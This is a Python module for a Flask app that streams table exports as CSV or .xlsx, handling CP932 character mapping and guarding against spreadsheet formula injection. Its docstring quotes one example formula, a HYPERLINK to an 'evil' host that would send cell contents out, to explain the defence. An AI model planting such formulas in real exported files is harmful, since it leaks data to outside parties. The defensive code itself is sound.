"""The one writer for every table the app hands out: CSV (UTF-8 with BOM, or CP932) and .xlsx.

Spreadsheets run formulas: a stored title such as ``=HYPERLINK("http://evil/?"&A1)`` would run
when a clerk opens the file. Every text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a CR is therefore neutralised: in CSV it gets a leading ``'`` (Excel shows the text, never
evaluates it); in .xlsx it is written as a text cell with Excel's quote prefix, so the cell
shows the text unchanged and cannot become a formula. Numbers and dates are not text and are
written as they are.

CP932 (Shift_JIS as Windows uses it) cannot hold every character: first the characters that
only differ between JIS and Microsoft's mapping are mapped (〜 → ～, − → －, ‖ → ∥, — → ―,
¢ £ ¬ → ￠ ￡ ￢), then every character CP932 still lacks (𠮷, emoji, most non-Japanese scripts)
becomes ``?``. In .xlsx, the control characters the format cannot hold (C0 but tab, LF,
CR) become ``?`` too. UTF-8 with BOM keeps everything and is what Excel on Japanese Windows opens
correctly by double-click; CP932 is for older tools that read nothing else.
"""

from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from typing import IO, Any, Literal
from urllib.parse import quote

from flask import Response
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

Encoding = Literal["utf-8-sig", "cp932"]
UTF8_BOM: Encoding = "utf-8-sig"
CP932: Encoding = "cp932"

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
CP932_REPLACEMENT = "?"
_CP932_EQUIVALENTS = str.maketrans(
    {
        "\u301c": "\uff5e",  # WAVE DASH → FULLWIDTH TILDE
        "\u2212": "\uff0d",  # MINUS SIGN → FULLWIDTH HYPHEN-MINUS
        "\u2016": "\u2225",  # DOUBLE VERTICAL LINE → PARALLEL TO
        "\u2014": "\u2015",  # EM DASH → HORIZONTAL BAR
        "\u00a2": "\uffe0",  # CENT SIGN → FULLWIDTH CENT SIGN
        "\u00a3": "\uffe1",  # POUND SIGN → FULLWIDTH POUND SIGN
        "\u00ac": "\uffe2",  # NOT SIGN → FULLWIDTH NOT SIGN
    }
)
CHUNK_BYTES = 64 * 1024
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula (or strip its first character)."""
    return text.startswith(FORMULA_PREFIXES)


def neutralise(value: Any) -> str:
    """The CSV text of a cell: ``None`` is empty; text that could be a formula gets a leading ``'``."""
    if value is None:
        return ""
    if isinstance(value, str):
        return "'" + value if is_formula_like(value) else value
    return str(value)


def to_cp932(text: str) -> str:
    """``text`` with every character CP932 lacks replaced (see the module's docstring)."""
    text = text.translate(_CP932_EQUIVALENTS)
    return text.encode(CP932, errors="replace").decode(CP932)


def _encode(text: str, encoding: Encoding) -> bytes:
    if encoding == CP932:
        return text.translate(_CP932_EQUIVALENTS).encode(CP932, errors="replace")
    return text.encode("utf-8")


def csv_chunks(
    header: Sequence[str], rows: Iterable[Sequence[Any]], encoding: Encoding = UTF8_BOM
) -> Iterator[bytes]:
    """The table as CSV bytes (CRLF line ends), in chunks of about 64 Ki characters while ``rows``
    is read, so a large export never sits in memory whole."""
    if encoding not in (UTF8_BOM, CP932):
        raise ValueError(f"unsupported CSV encoding {encoding!r}")
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutralise(name) for name in header])
    if encoding == UTF8_BOM:
        yield b"\xef\xbb\xbf"
    for row in rows:
        writer.writerow([neutralise(value) for value in row])
        if buffer.tell() >= CHUNK_BYTES:
            yield _encode(buffer.getvalue(), encoding)
            buffer.seek(0)
            buffer.truncate()
    yield _encode(buffer.getvalue(), encoding)


def csv_bytes(
    header: Sequence[str], rows: Iterable[Sequence[Any]], encoding: Encoding = UTF8_BOM
) -> bytes:
    """The whole table as one CSV file (for small tables, e.g. inside a zip)."""
    return b"".join(csv_chunks(header, rows, encoding))


def _xlsx_cell(sheet: Any, value: Any) -> Any:
    if isinstance(value, str):
        # The file format cannot hold most C0 controls; stored rows may still have some.
        value = ILLEGAL_CHARACTERS_RE.sub(CP932_REPLACEMENT, value)
        if not is_formula_like(value):
            return value  # plain text: openpyxl writes it as a string
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"  # openpyxl would make "=..." a formula
        cell.quotePrefix = True
        return cell
    if isinstance(value, datetime) and value.tzinfo is not None:
        return value.replace(tzinfo=None)  # Excel has no time zones; callers pass local time
    if value is None or isinstance(value, (int, float, date)):
        return value
    return _xlsx_cell(sheet, str(value))


def write_xlsx(
    target: str | IO[bytes],
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    sheet_title: str = "Sheet1",
) -> None:
    """Write the table as an .xlsx workbook; rows are streamed (openpyxl's write-only mode)."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=sheet_title[:31])
    sheet.append([_xlsx_cell(sheet, name) for name in header])
    for row in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in row])
    workbook.save(target)


def _attachment(filename: str) -> str:
    """A Content-Disposition for ``filename`` (RFC 6266: ASCII fallback and UTF-8 name)."""
    ascii_name = filename.encode("ascii", "replace").decode("ascii").replace('"', "")
    return f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(filename)}"


def csv_response(chunks: Iterable[bytes], filename: str, encoding: Encoding = UTF8_BOM) -> Response:
    """A download of CSV ``chunks`` (from :func:`csv_chunks`), streamed as they are made."""
    charset = "shift_jis" if encoding == CP932 else "utf-8"
    return Response(
        chunks,
        headers={
            "Content-Type": f"text/csv; charset={charset}",
            "Content-Disposition": _attachment(filename),
        },
    )


def xlsx_response(
    header: Sequence[str], rows: Iterable[Sequence[Any]], filename: str, sheet_title: str = "Sheet1"
) -> Response:
    """A download of the table as .xlsx, built in a temporary file (on disk past 8 MiB)."""
    spool = tempfile.SpooledTemporaryFile(max_size=8 * 1024 * 1024)
    write_xlsx(spool, header, rows, sheet_title)
    size = spool.tell()
    spool.seek(0)

    def chunks() -> Iterator[bytes]:
        with spool:
            while block := spool.read(CHUNK_BYTES):
                yield block

    return Response(
        chunks(),
        headers={
            "Content-Type": XLSX_MIMETYPE,
            "Content-Disposition": _attachment(filename),
            "Content-Length": str(size),
        },
    )
